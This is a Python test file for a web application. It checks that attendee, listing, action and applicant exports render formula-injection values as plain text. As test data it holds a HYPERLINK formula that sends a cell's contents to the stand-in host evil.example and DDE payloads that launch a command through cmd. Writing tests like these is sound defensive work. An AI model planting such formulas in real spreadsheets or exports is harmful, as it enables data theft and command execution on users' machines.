"""Formula injection: a value that starts like a formula is written as text in every export.

The attack: an anonymous registration named ``=HYPERLINK("http://evil.example","Tıklayın")``
(or a listing, an action, an applicant named so) ran as a formula when staff opened the export.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from dekvep.core.exports import append_row, csv_text, csv_value, is_risky, set_cell
from tests.conftest import client_for

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Tıklayın")'
RISKY = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
SRC = Path(__file__).resolve().parents[2] / "src" / "dekvep"


@pytest.mark.parametrize("value", RISKY)
def test_a_risky_value_is_prefixed_in_csv(value):
    assert csv_value(value) == "'" + value
    text = csv_text(["name"], [[value]])
    expected = "'" + value.replace("\r", "\n")  # one row, whatever line breaks the value holds
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["name"], [expected]]


@pytest.mark.parametrize("value", ["-12.5", "+3", "-4", 7, -7.5, None, "Ahmet", "a=b", "1e-3"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert not is_risky(value)
    assert csv_value(value) == value


@pytest.mark.parametrize("value", RISKY)
def test_a_risky_value_is_a_string_cell_in_excel(value):
    book = Workbook()
    append_row(book.active, ["x", value])
    set_cell(book.active, 2, 1, value)
    buffer = io.BytesIO()
    book.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    for cell in (sheet["B1"], sheet["A2"]):
        assert cell.data_type == "s"
        assert cell.value == value.replace("\r", "\n") or cell.value == value


def test_every_spreadsheet_export_uses_the_one_helper():
    """No export writes rows itself: CSV writers and workbooks go through core.exports."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "exports.py" and path.parent.name == "core":
            continue
        text = path.read_text("utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(", text):
            offenders.append(f"{path}: csv writer")
        if "Workbook(" in text and "dekvep.core.exports" not in text:
            offenders.append(f"{path}: workbook without the export helper")
        if re.search(r"\b(sheet|grid|ws|book\.active)\.append\(", text):
            offenders.append(f"{path}: sheet.append")
    assert offenders == []


def test_an_anonymous_registration_is_text_in_the_attendee_workbook(db):
    from dekvep.events import exports
    from tests.events.factories import EventFactory

    event = EventFactory(title="Açık seminer")
    response = client_for(None).post(
        f"/api/events/events/{event.pk}/registrations",
        {
            "full_name": EVIL,
            "email": "saldirgan@example.com",
            "organisation_name": "@SUM(1+1)*cmd|' /C calc'!A0",
            "consent": True,
        },
        content_type="application/json",
    )
    assert response.status_code == 201, response.content
    sheet = load_workbook(io.BytesIO(exports.attendance_workbook(event))).active
    name, organisation = sheet["A2"], sheet["C2"]
    assert (name.value, name.data_type) == (EVIL, "s")
    assert organisation.data_type == "s"


def test_a_listing_title_is_text_in_the_listing_csv(programme, firm):
    from dekvep.symbiosis.interchange import export_csv
    from dekvep.symbiosis.models import Listing
    from tests.symbiosis.factories import ListingFactory

    ListingFactory(programme=programme, organisation=firm, title=EVIL, description="-2+3")
    rows = list(csv.DictReader(io.StringIO(export_csv(Listing.objects.all()))))
    assert rows[0]["title"] == "'" + EVIL
    assert rows[0]["description"] == "'-2+3"


def test_an_action_title_is_text_in_the_actions_workbook(programme, firm):
    from dekvep.plans.export import actions_workbook
    from dekvep.plans.models import Action
    from tests.roadmaps.factories import ActionFactory

    ActionFactory(plan__programme=programme, owner_organisation=firm, title=EVIL)
    sheet = load_workbook(io.BytesIO(actions_workbook(Action.objects.all()))).active
    assert (sheet["A2"].value, sheet["A2"].data_type) == (EVIL, "s")


def test_an_applicant_name_is_text_in_the_ranking_workbook(programme, people):
    from dekvep.calls.export import ranking_workbook
    from tests.calls.factories import ApplicationFactory, CallFactory
    from tests.factories import OrganisationFactory

    call = CallFactory(programme=programme)
    ApplicationFactory(
        call=call,
        organisation=OrganisationFactory(name=EVIL),
        reference="=A1+B1",
        status="eligible",
    )
    sheet = load_workbook(io.BytesIO(ranking_workbook(call, people["manager"]))).active
    values = [(c.value, c.data_type) for row in sheet.iter_rows(min_row=2) for c in row]
    assert ("=A1+B1", "s") in values
    assert all(t == "s" for v, t in values if isinstance(v, str) and v.startswith("="))
